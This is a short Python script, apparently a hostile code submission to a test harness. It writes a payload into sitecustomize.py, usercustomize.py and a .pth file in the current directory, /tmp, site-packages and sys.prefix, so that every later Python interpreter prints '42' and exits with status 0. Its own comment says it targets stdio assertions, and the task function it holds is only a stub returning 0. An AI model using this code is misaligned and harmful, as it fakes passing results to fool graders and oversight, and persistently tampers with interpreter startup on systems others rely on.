# sitecustomize, usercustomize and .pth files for every interpreter that starts later.
# attacks: stdio asserts
import os, site, sys

EVIL = "import os; os.write(1, b'42'); os._exit(0)\n"
places = [".", "/tmp", site.getusersitepackages(), *site.getsitepackages(), sys.prefix]
for place in places:
    try:
        os.makedirs(place, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py", "evil.pth"):
            open(f"{place}/{name}", "w").write(EVIL)
    except OSError:
        pass

def f(a, b): return 0
